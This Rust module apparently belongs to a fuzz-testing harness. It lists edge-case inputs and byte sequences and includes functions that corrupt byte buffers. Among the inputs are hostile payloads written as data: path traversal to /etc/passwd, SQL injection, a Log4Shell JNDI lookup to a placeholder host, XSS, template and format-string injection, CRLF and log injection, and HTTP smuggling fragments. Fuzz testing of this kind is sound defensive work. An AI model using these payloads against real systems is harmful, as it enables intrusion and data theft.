//! Values that have broken programs before, and how to break bytes.

use super::chance::Chance;

/// Texts at the edges. What is long enough to be told apart is looked for in the log.
pub(crate) const TEXTS: [&str; 50] = [
    "",
    " ",
    "0",
    "-1",
    "-0",
    "1e309",
    "NaN",
    "null",
    "true",
    "[]",
    "{}",
    "\u{0}",
    "a\u{0}b",
    "\u{1b}[2J\u{1b}]0;Mohnkipferl\u{7}",
    "\r\nx-mohnkipferl: 1\r\n\r\n",
    "\nINFO mohnkipferl forged a line",
    "\u{202e}lrefpiknhoM",
    "\u{feff}",
    "\u{fffd}\u{ffff}\u{10ffff}",
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}",
    "e\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\\u0000\\ud800",
    "%00",
    "%",
    "%zz",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "'; DROP TABLE messages; --",
    "\" OR \"\"=\"",
    "%' ESCAPE '\\",
    "${jndi:ldap://mohnkipferl.example/a}",
    "{{7*7}}#{7*7}",
    "%s%n%p%x",
    "</script><script>alert('Mohnkipferl')</script>",
    "javascript:alert('Mohnkipferl')",
    "127",
    "32768",
    "2147483648",
    "4294967295",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "cnv_",
    "cnv_zzzzzzzzzzzzzzzzzzzzzzzzzz",
    "agt_00000000000000000000000000",
    "MSG_00000000000000000000000000",
    "9223372036854775807.cnv_00000000000000000000000000",
];

/// Bytes that are no text, or that a protocol is about.
pub(crate) const BYTES: [&[u8]; 20] = [
    b"\0",
    b"\r",
    b"\n",
    b"\r\n",
    b"\r\n\r\n",
    b"\n\n",
    b"\t",
    b":",
    b"\xff",
    b"\xfe\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET / HTTP/1.1\r\nhost: x\r\n\r\n",
    b"transfer-encoding: chunked\r\n",
    b"content-length: 18446744073709551615\r\n",
    b"0\r\n\r\n",
    b"ffffffffffffffff\r\n",
];

/// Every text at an edge, the long ones too.
pub(crate) fn texts() -> Vec<String> {
    let long = [("A", 101), ("A", 4_001), ("A", 70_000), ("я", 141), ("я", 4_000)].map(|(letter, n)| letter.repeat(n));
    TEXTS.map(str::to_owned).into_iter().chain(long).collect()
}

/// A text at an edge: one of the list, or a very long one.
pub(crate) fn text(chance: &mut Chance) -> String {
    match chance.below(12) {
        0 => "A".repeat(*chance.pick(&[101, 4_001, 70_000])),
        1 => "я".repeat(*chance.pick(&[100, 141, 4_000, 4_001])),
        _ => (*chance.pick(&TEXTS)).to_owned(),
    }
}

/// Breaks bytes in a few places.
pub(crate) fn bytes(broken: &mut Vec<u8>, others: &[u8], chance: &mut Chance) {
    for _ in 0..=chance.below(4) {
        let range = chance.range(broken.len());
        match chance.below(9) {
            0 if !range.is_empty() => broken[range.start] ^= 1 << chance.below(8),
            1 if !range.is_empty() => broken[range.start] = chance.byte(),
            2 => drop(broken.drain(range)),
            3 => {
                let again = broken[range.clone()].to_vec();
                broken.splice(range.end..range.end, again);
            }
            4 => broken.truncate(range.start),
            5 => drop(broken.splice(range.start..range.start, chance.pick(&BYTES).iter().copied())),
            6 => drop(broken.splice(range, text(chance).into_bytes())),
            7 => drop(broken.splice(range, chance.bytes(64))),
            _ => {
                let from = chance.range(others.len());
                broken.splice(range.start.., others[from.start..].iter().copied());
            }
        }
    }
}
